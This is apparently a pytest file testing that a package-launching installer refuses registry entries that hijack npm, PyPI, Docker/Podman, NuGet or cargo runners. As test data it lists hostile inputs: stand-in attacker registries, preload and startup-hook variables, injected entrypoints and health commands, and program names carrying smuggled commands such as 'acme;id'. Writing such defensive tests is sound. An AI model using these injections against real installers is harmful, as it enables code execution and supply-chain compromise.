"""Nothing that an entry gives has its runner take another package, or begin with other code."""

from __future__ import annotations

import itertools
from typing import Any
from urllib.parse import urlsplit

import pytest

from builder.install import Launch, panel
from builder.install.runners import RUNNERS, is_steered
from tests.install.test_started import EXACT, argv, entry, word

SOURCES = [
    ("npm", "--registry", "https://registry.npmjs.org", "https://registry.npmjs.org/"),
    ("pypi", "--index-url", "https://pypi.org", "https://pypi.org/simple"),
    ("pypi", "--extra-index-url", "https://pypi.org", "https://pypi.org/simple"),
    ("nuget", "--source", "https://api.nuget.org", "https://api.nuget.org/v3/index.json"),
]
VARIABLES = {
    "npm": (
        *("npm_config_registry", "NPM_CONFIG_PACKAGE", "NODE_OPTIONS", "LD_PRELOAD", "PATH"),
        *("ComSpec", "USERPROFILE", "PREFIX", "COREPACK_NPM_REGISTRY", "GIT_SSH_COMMAND"),
        *("CC", "MAKEFLAGS", "PYTHON"),
    ),
    "pypi": (
        *("UV_DEFAULT_INDEX", "UV_OVERRIDE", "PIP_INDEX_URL", "PYTHONPATH", "BASH_ENV"),
        *("PYTHONWARNINGS", "BROWSER", "PYTHONPYCACHEPREFIX", "XDG_CONFIG_HOME", "OPENSSL_CONF"),
        *("CXX", "RUSTC_WRAPPER"),
    ),
    "oci": (
        *("DOCKER_HOST", "DOCKER_CONTEXT", "CONTAINER_HOST", "PODMAN_CONNECTIONS_CONF"),
        *(
            "NODE_OPTIONS",
            "PYTHONWARNINGS",
            "PERL5OPT",
            "JAVA_TOOL_OPTIONS",
            "RUBYOPT",
            "SHELLOPTS",
        ),
    ),
    "nuget": (
        *("DOTNET_STARTUP_HOOKS", "NUGET_PLUGIN_PATHS", "DYLD_INSERT_LIBRARIES"),
        *("CORECLR_PROFILER_PATH", "DOTNET_ROOT_X64", "APPDATA"),
    ),
}
OPTIONS = [
    ("npm", "", "--node-options=--import=data:text/javascript,0"),
    ("npm", "npm", "--node-options --require=/tmp/a.js"),
    ("pypi", "", "--overrides https://mallory.example/o.txt"),
    ("pypi", "", "-c https://mallory.example/c.txt"),
    ("pypi", "", "--env-file /tmp/env"),
    ("pypi", "", "--project /tmp/p"),
    ("npm", "", r"--cache \\mallory.example\npm"),
    ("pypi", "", r"--cache-dir \\mallory.example\uv"),
    ("pypi", "", r"--python \\mallory.example\bin\python.exe"),
    ("pypi", "pipx", "--python /tmp/python"),
    ("oci", "", "--entrypoint busybox"),
    ("oci", "", "--entrypoint=/usr/bin/python3.12"),
    ("oci", "", "--entrypoint /lib64/ld-linux-x86-64.so.2"),
    ("oci", "", "--entrypoint /sbin/docker-init"),
    ("oci", "podman", "--entrypoint tini"),
    ("oci", "", "--health-cmd id>/mallory"),
    ("oci", "", "-e LD_PRELOAD=/tmp/mallory.so"),
    ("oci", "podman", "-e NODE_OPTIONS=--import=data:text/javascript,0"),
    ("oci", "", "--env BASH_FUNC_cat%%=()"),
    ("oci", "", "--mount type=image,source=mallory/app,target=/app"),
    ("oci", "", "--mount type=volume,target=/app,volume-opt=o=addr=mallory.example"),
    ("oci", "podman", "--volumes-from mallory"),
    ("oci", "", "--volume-driver mallory"),
    ("pypi", "", "--with acme-weather@git+https://mallory.example/w"),
    ("pypi", "pipx", "--pip-args=--index-url=https://mallory.example/simple"),
    ("pypi", "pipx", "--python-args=-cimport_mallory"),
    ("pypi", "pipx", "--with https://mallory.example/w.whl"),
]
PROGRAMS = ("bash", "sh", "python3", "node", "npx", "docker", "env", "curl", "PowerShell", "rm")
NAMED = [(kind, name) for kind, names in VARIABLES.items() for name in names]


def with_variable(kind: str, name: str, **given: Any) -> Launch:
    return entry(kind, environmentVariables=[{"name": name, "isRequired": True, **given}])


def refused(launch: Launch) -> bool:
    return bool(launch.reason) and not any(recipe.usable for recipe in launch.recipes)


@pytest.mark.parametrize(("kind", "option", "base", "usual"), SOURCES)
def test_a_package_that_is_said_to_be_public_is_taken_from_no_other_registry(
    kind: str, option: str, base: str, usual: str
) -> None:
    assert argv(entry(kind, word(option), word(usual), registryBaseUrl=base))
    elsewhere = [word(option), word("https://mallory.example/simple")]
    other = entry(kind, *elsewhere, registryBaseUrl=base)
    assert refused(other) and "elsewhere than the public registry" in other.reason
    for disguised in (
        rf"https://mallory.example\@{urlsplit(usual).hostname}/",
        f"https://mallory.example@{urlsplit(usual).hostname}/",
        usual.replace("https:", "http:"),
    ):
        assert refused(entry(kind, word(option), word(disguised), registryBaseUrl=base)), disguised
    assert argv(entry(kind, *elsewhere)), "an entry may name its registry by an argument alone"


def test_a_registry_of_ones_own_has_no_second_beside_it() -> None:
    own, second = "https://pypi.acme.dev/simple", "https://mallory.example/simple"
    options = [word("--index-url"), word(own), word("--extra-index-url"), word(second)]
    assert refused(entry("pypi", *options, registryBaseUrl=own))


@pytest.mark.parametrize(("kind", "name"), NAMED)
def test_a_variable_that_steers_the_runner_is_not_set_by_an_entry(kind: str, name: str) -> None:
    for given in (
        {"value": "x"},
        {"default": "x"},
        {"choices": ["x", "y"]},
        {"value": "{a}/x", "variables": {"a": {}}},
    ):
        launch = with_variable(kind, name, **given)
        assert refused(launch) and name in launch.reason, given
    assert argv(with_variable(kind, name)), "what the user gives is the user's"


@pytest.mark.parametrize(("kind", "hint", "words"), OPTIONS)
def test_no_argument_begins_with_other_code(kind: str, hint: str, words: str) -> None:
    given = [word(part) for part in words.split()]
    assert refused(entry(kind, *given, runtimeHint=hint))
    name, _, value = words.replace("=", " ", 1).partition(" ")
    optional = {"type": "named", "name": name, "placeholder": "x", "default": value}
    assert value not in repr(entry(kind, optional | {"default": ""}, runtimeHint=hint))


def test_what_is_filled_in_is_read_as_the_word_that_it_makes() -> None:
    """In halves a program or a variable is none: `pyth{end}` with `on3` for its end."""
    half = {"type": "named", "name": "--entrypoint", "value": "pyth{end}", "isRequired": True}
    assert refused(entry("oci", half | {"variables": {"end": {"default": "on3"}}}))
    assert refused(entry("oci", half | {"variables": {"end": {"choices": ["pi", "on3"]}}}))
    two = {"a": {"choices": ["x", "py"]}, "b": {"choices": ["thon3", "y"]}}
    assert refused(entry("oci", half | {"value": "{a}{b}", "variables": two}))
    many = {letter: {"choices": list("0123456789")} for letter in "abcdefgh"}
    assert refused(entry("oci", half | {"value": "{a}{b}{c}{d}{e}{f}{g}{h}", "variables": many}))
    variable = {"type": "named", "name": "-e", "value": "LD_{end}"}
    assert refused(entry("oci", variable | {"variables": {"end": {"default": "PRELOAD=/tmp/m"}}}))
    variable["value"] = "NODE_OPTIONS={mine}"
    assert argv(entry("oci", variable)), "what the user gives is the user's"


@pytest.mark.parametrize("name", PROGRAMS)
def test_a_crate_that_is_called_as_a_program_of_the_system_is_not_started(name: str) -> None:
    body = {"registryType": "cargo", "identifier": name, "version": "1.2.3"}
    script = {"packageArguments": [word("-c"), word("echo mallory")]}
    (launch,) = panel("com.acme/weather", {"packages": [body | script]}).launches
    assert refused(launch) and name in launch.reason
    for variable in ("PATH", "LD_PRELOAD"):
        given = {"environmentVariables": [{"name": variable, "value": "/tmp/x"}]}
        (steered,) = panel(
            "com.acme/weather", {"packages": [body | given | {"identifier": "acme"}]}
        ).launches
        assert refused(steered) and variable in steered.reason
    (own,) = panel(
        "com.acme/weather", {"packages": [body | {"identifier": f"{name}-mcp"}]}
    ).launches
    assert argv(own) == [f"{name}-mcp"]


@pytest.mark.parametrize(
    "program",
    [
        *(
            "bash",
            "Python3",
            "node",
            "cmd.exe",
            "/bin/acme",
            "..\\acme",
            "python3.12",
            "python@3.12",
        ),
        *("npx.cmd", "bash.", "lua5.4.exe", "acme;id", "acme|sh", "$SHELL", "acme&calc", "-x"),
    ],
)
def test_what_starts_in_a_package_is_a_program_of_its_own(program: str) -> None:
    for kind, option in (("npm", "-p @acme/weather"), ("pypi", "--from acme-weather")):
        given = [word(part) for part in f"{option} {program} -c x".split()]
        launch = entry(kind, *given)
        assert refused(launch) and program in launch.reason
        for offered in ({"default": program}, {"choices": [program]}):
            asked = {"type": "positional", "valueHint": "program", "isRequired": True, **offered}
            assert refused(entry(kind, *given[:2], asked))
        own = entry(kind, *[word(part) for part in f"{option} acme-{kind} -c x".split()])
        assert argv(own)[-3:] == [f"acme-{kind}", "-c", "x"]


@pytest.mark.parametrize(
    ("kind", "identifier", "version"),
    [
        *[("pypi", name, "3.12") for name in ("python", "Python3.11", "cpython", "pypy39")],
        *[("pypi", "acme-weather", version) for version in ("1..0", "1.0-", "1.0+", "1_")],
        *[("npm", f"acme{ending}", "1.2.3") for ending in (".tgz", ".tar.gz", ".tar")],
        ("oci", "0123456789abcdef" * 4, ""),
    ],
)
def test_a_name_or_version_that_a_runner_takes_for_something_else_has_no_command(
    kind: str, identifier: str, version: str
) -> None:
    assert refused(entry(kind, identifier=identifier, version=version))


def test_a_package_beside_comes_from_no_address_that_is_filled_in() -> None:
    for given in ({"default": "git+https://mallory.example/w"}, {"choices": ["a", "./b"]}):
        asked = {"type": "positional", "valueHint": "beside", "isRequired": True, **given}
        assert refused(entry("pypi", word("--with"), asked))
    assert argv(entry("pypi", word("--with"), word("mcp>=1"), word("--python"), word("3.12")))


def test_an_image_of_docker_hub_says_so_to_podman() -> None:
    for written, full in (
        ("acme/weather:1", "docker.io/acme/weather:1"),
        ("weather:1", "docker.io/weather:1"),
        ("ghcr.io/acme/weather:1", "ghcr.io/acme/weather:1"),
        ("localhost:5000/weather:1", "localhost:5000/weather:1"),
    ):
        assert argv(entry("oci", identifier=written, runtimeHint="podman"))[-1] == full
        named = entry("oci", word(written), identifier=written, runtimeHint="podman")
        assert argv(named)[-1] == full
        assert argv(entry("oci", identifier=written))[-1] == written


def test_what_lies_in_a_container_beside_the_image_is_the_users() -> None:
    options = [word("--mount"), word("type=bind,src=/tmp,dst=/mount/,ro"), word("--entrypoint")]
    assert argv(entry("oci", *options, word("/app/serve")))
    kinds: list[dict[str, Any]] = [{"default": "image"}, {"choices": ["bind", "image"]}, {}]
    for kind in kinds:
        given = {"value": "type={k},src=x,dst=/app", "variables": {"k": kind}, "isRequired": True}
        assert refused(entry("oci", {"type": "named", "name": "--mount", **given}))


def test_other_variables_are_set() -> None:
    for kind, name in itertools.product(
        EXACT, ("NODE_ENV", "UVICORN_PORT", "LDAP_URL", "PATHS", "GIT_AUTHOR_NAME")
    ):
        assert argv(with_variable(kind, name, value="1"))


def test_every_runner_has_variables_that_steer_it() -> None:
    runners = [runner for many in RUNNERS.values() for runner in many.values()]
    assert all(is_steered(runner, "ld_preload") for runner in runners)
    assert all(len(runner.steered_by) > len(RUNNERS) for runner in runners)
